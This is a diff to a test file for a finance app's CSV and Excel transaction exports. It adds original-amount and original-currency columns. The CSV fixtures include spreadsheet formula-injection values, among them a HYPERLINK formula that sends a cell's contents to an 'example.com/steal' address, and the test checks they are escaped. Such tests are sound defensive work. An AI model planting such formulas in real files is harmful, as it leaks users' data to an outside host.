@@ -80,7 +80,17 @@ describe.each(testEngines())('exports on %s', (engine) => {
     const sheet = workbook.worksheets[0];
     const rows: unknown[][] = [];
     sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
-    expect(rows[0]).toEqual(['Date', 'Description', 'Category', 'Subcategory', 'Type', 'Amount', 'Currency']);
+    expect(rows[0]).toEqual([
+      'Date',
+      'Description',
+      'Category',
+      'Subcategory',
+      'Type',
+      'Amount',
+      'Currency',
+      'Original amount',
+      'Original currency',
+    ]);
     expect(rows).toHaveLength(6);
     expect(rows[1]).toEqual([new Date('2025-02-05T00:00:00Z'), 'Crème brûlée', 'Food', 'Café', 'Expense', -7, 'USD']);
     // The amount is a number shown as money in the user's currency (US dollars until they have a home currency).
@@ -109,12 +119,12 @@ describe.each(testEngines())('exports on %s', (engine) => {
     expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = csvLines(body.subarray(3));
     expect(lines).toEqual([
-      'Date,Description,Category,Subcategory,Type,Amount,Currency',
-      '2025-02-05,Crème brûlée,Food,Café,Expense,-7,USD',
-      "2025-02-04,'-2+3,Food,Groceries,Expense,-10.25,USD",
-      "2025-02-03,'+1 call me,Food,Groceries,Expense,-60,USD",
-      `2025-01-09,'@SUM(1+1),"'=HYPERLINK(""http://example.com/steal?x=""&A1,""Click"")",Links,Expense,-40.5,USD`,
-      '2025-01-03,"Payroll, ""ACME""",Income,Salary,Income,2000,USD',
+      'Date,Description,Category,Subcategory,Type,Amount,Currency,Original amount,Original currency',
+      '2025-02-05,Crème brûlée,Food,Café,Expense,-7,USD,,',
+      "2025-02-04,'-2+3,Food,Groceries,Expense,-10.25,USD,,",
+      "2025-02-03,'+1 call me,Food,Groceries,Expense,-60,USD,,",
+      `2025-01-09,'@SUM(1+1),"'=HYPERLINK(""http://example.com/steal?x=""&A1,""Click"")",Links,Expense,-40.5,USD,,`,
+      '2025-01-03,"Payroll, ""ACME""",Income,Salary,Income,2000,USD,,',
     ]);
 
     const food = csvLines((await download(client, '/export/transactions.csv?category=Food&from=2025-02-04')).body as Buffer);
@@ -187,7 +197,7 @@ describe.each(testEngines())('exports on %s', (engine) => {
     const client = await userWithLog();
     expect((await client.put('/account/home-currency', { home_currency: 'CHF' })).status).toBe(200);
     const csv = csvLines(((await download(client, '/export/transactions.csv')).body as Buffer).subarray(3));
-    expect(csv[1]).toBe('2025-02-05,Crème brûlée,Food,Café,Expense,-7,CHF');
+    expect(csv[1]).toBe('2025-02-05,Crème brûlée,Food,Café,Expense,-7,CHF,,');
 
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load((await download(client, '/export/transactions.xlsx')).body);
